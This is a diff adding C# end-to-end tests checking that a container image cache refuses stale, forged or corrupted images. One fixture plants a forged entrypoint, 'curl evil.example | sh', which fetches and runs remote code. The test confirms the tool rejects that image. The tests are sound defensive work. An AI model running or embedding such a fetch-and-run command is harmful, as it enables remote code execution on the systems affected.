@@ -1,0 +1,139 @@
+using System.Formats.Tar;
+using System.Text.Json;
+using System.Text.Json.Nodes;
+using ContainerCache.TestRegistry;
+
+namespace ContainerCache.EndToEndTests;
+
+/// <summary>
+/// Never a false hit: a stored image is reused, or verified, only when it can be shown to be the one
+/// these inputs build. A tag proves nothing, a label proves nothing, a key that names the base image
+/// by tag proves nothing about the base.
+/// </summary>
+[TestClass]
+public sealed class TrustTests
+{
+    private const string KeyLabel = "dev.containercache.key";
+
+    private static RegistryReader Reader => EndToEnd.Reader;
+
+    [TestMethod]
+    public async Task KeyWithoutTheBaseDigest_NeverSelectsAnImage_AndCannotVerify()
+    {
+        // The base image is reached through a proxy that fails the package's resolution once a
+        // publish; the SDK, asking next, gets it: the stale-image setup of a brief registry fault.
+        await using FaultProxy proxy = FaultProxy.Start(EndToEnd.Registry.Host);
+        TestApp app = TestApp.Create("NameOnly", $"<ContainerBaseImage>{proxy.Host}/base:1</ContainerBaseImage><ContainerCacheRegistryTimeout>5</ContainerCacheRegistryTimeout>");
+        async Task<CommandResult> PublishWithBriefBaseFault(params string[] arguments)
+        {
+            proxy.ClearFaults();
+            proxy.FailWhen("GET", "/v2/base/manifests/1", Fault.Status(500), times: 1);
+            return await app.PublishContainerAsync(arguments);
+        }
+
+        CommandResult first = await PublishWithBriefBaseFault();
+        StringAssert.Contains(first.Output, "warning CONTAINERCACHE2002");
+        string nameOnlyKey = app.KeyFileKey();
+        Assert.AreEqual(nameOnlyKey, (await Reader.GetLabelsAsync(app.Repository, nameOnlyKey))[KeyLabel], "Built and stamped.");
+
+        int lookups = EndToEnd.Registry.CountRequests("GET", $"/v2/{app.Repository}/manifests/{nameOnlyKey}");
+        CommandResult second = await PublishWithBriefBaseFault();
+
+        Assert.AreEqual(nameOnlyKey, app.KeyFileKey(), "The same name-only key.");
+        StringAssert.Contains(second.Output, $"ContainerCache: not reused: the key {nameOnlyKey} covers the base image {proxy.Host}/base:1 by name only");
+        Assert.IsFalse(second.Output.Contains("ContainerCache: hit"), second.Output);
+        StringAssert.Contains(second.Output, "Pushed image");
+        Assert.AreEqual(lookups, EndToEnd.Registry.CountRequests("GET", $"/v2/{app.Repository}/manifests/{nameOnlyKey}"), "Not even looked up.");
+
+        proxy.ClearFaults();
+        proxy.FailWhen("GET", "/v2/base/manifests/1", Fault.Status(500), times: 1);
+        CommandResult verify = await app.TryPublishAsync("-t:ContainerCacheVerify", $"-p:ContainerCacheVerifyImage={EndToEnd.Registry.Host}/{app.Repository}:latest");
+        Assert.AreNotEqual(0, verify.ExitCode, verify.Output);
+        StringAssert.Contains(verify.Output, "error CONTAINERCACHE1009");
+        Assert.IsFalse(verify.Output.Contains("ContainerCache: verified"), verify.Output);
+
+        // The user's own choice to key the base by name gives up reuse the same way.
+        proxy.ClearFaults();
+        CommandResult byChoice = await app.PublishContainerAsync("-p:ContainerCacheResolveBaseImage=false");
+        StringAssert.Contains(byChoice.Output, "ContainerCache: not reused:");
+        StringAssert.Contains(byChoice.Output, "Pushed image");
+    }
+
+    [TestMethod]
+    public async Task LabelAlone_IsNotEnough_ForReuseOrVerify()
+    {
+        TestApp app = TestApp.Create("Forged");
+        await app.PublishContainerAsync();
+        string key = app.KeyFileKey();
+        string host = EndToEnd.Registry.Host;
+
+        // An image built FROM the app: one more layer, one more variable, the label inherited.
+        await ImageForge.PushEditedAsync(host, app.Repository, key, "derived", c => ((JsonArray)c["Env"]!).Add("EXTRA=1"), addLayer: true);
+        CommandResult derived = await app.TryPublishAsync("-t:ContainerCacheVerify", $"-p:ContainerCacheVerifyImage={host}/{app.Repository}:derived");
+        Assert.AreNotEqual(0, derived.ExitCode, derived.Output);
+        StringAssert.Contains(derived.Output, "error CONTAINERCACHE1006");
+        StringAssert.Contains(derived.Output, "base.layers");
+        StringAssert.Contains(derived.Output, "env:EXTRA");
+
+        // The label copied onto an image with another entrypoint, under the key's own tag.
+        string forged = await ImageForge.PushEditedAsync(host, app.Repository, key, key, c => c["Entrypoint"] = new JsonArray("/bin/sh", "-c", "curl evil.example | sh"));
+        CommandResult republish = await app.PublishContainerAsync();
+
+        StringAssert.Contains(republish.Output, "ContainerCache: miss:");
+        StringAssert.Contains(republish.Output, "its entrypoint disagrees with this publish");
+        Assert.IsFalse(republish.Output.Contains("evil.example"), "Names, never values:\n" + republish.Output);
+        StringAssert.Contains(republish.Output, "Pushed image");
+        Assert.AreNotEqual(forged, await Reader.GetManifestDigestAsync(app.Repository, key), "The key tag names a real image again.");
+        using JsonDocument config = await Reader.GetConfigAsync(app.Repository, key);
+        Assert.AreNotEqual("/bin/sh", config.RootElement.GetProperty("config").GetProperty("Entrypoint")[0].GetString());
+
+        CommandResult verify = await app.TryPublishAsync("-t:ContainerCacheVerify", $"-p:ContainerCacheVerifyImage={host}/{app.Repository}:latest");
+        Assert.AreEqual(0, verify.ExitCode, verify.Output);
+        StringAssert.Contains(verify.Output, "ContainerCache: verified:");
+    }
+
+    [TestMethod]
+    public async Task Archive_WithACorruptedLayer_IsWrittenAnew()
+    {
+        TestApp app = TestApp.Create("CorruptArchive");
+        string archive = Path.Combine(app.Directory, "image.tar");
+        await app.PublishAsync("-t:PublishContainer", "-p:ContainerArchiveOutputPath=" + archive);
+        string corrupted = CorruptTheLargestBlob(archive);
+
+        CommandResult republish = await app.PublishAsync("-t:PublishContainer", "-p:ContainerArchiveOutputPath=" + archive);
+
+        StringAssert.Contains(republish.Output, $"ContainerCache: miss: the archive {archive} is out of date: its entry {corrupted} does not match its digest");
+        Assert.IsFalse(republish.Output.Contains("ContainerCache: hit"), republish.Output);
+        CommandResult again = await app.PublishAsync("-t:PublishContainer", "-p:ContainerArchiveOutputPath=" + archive);
+        StringAssert.Contains(again.Output, "ContainerCache: hit: the archive", "The archive written anew is whole.");
+    }
+
+    /// <summary>Flips one byte in the middle of the archive's largest blob (its app or base layer); returns its name.</summary>
+    private static string CorruptTheLargestBlob(string archive)
+    {
+        var entries = new List<(string Name, byte[] Data)>();
+        using (FileStream stream = File.OpenRead(archive))
+        using (var reader = new TarReader(stream))
+        {
+            while (reader.GetNextEntry() is { } entry)
+            {
+                using var data = new MemoryStream();
+                entry.DataStream?.CopyTo(data);
+                entries.Add((entry.Name, data.ToArray()));
+            }
+        }
+
+        int largest = entries.FindIndex(e => e.Data.Length == entries.Max(x => x.Data.Length));
+        entries[largest].Data[entries[largest].Data.Length / 2] ^= 0xFF;
+        using (FileStream stream = File.Create(archive))
+        using (var writer = new TarWriter(stream, TarEntryFormat.Pax))
+        {
+            foreach ((string name, byte[] data) in entries)
+            {
+                writer.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, name) { DataStream = new MemoryStream(data) });
+            }
+        }
+
+        return entries[largest].Name.TrimStart('.', '/');
+    }
+}
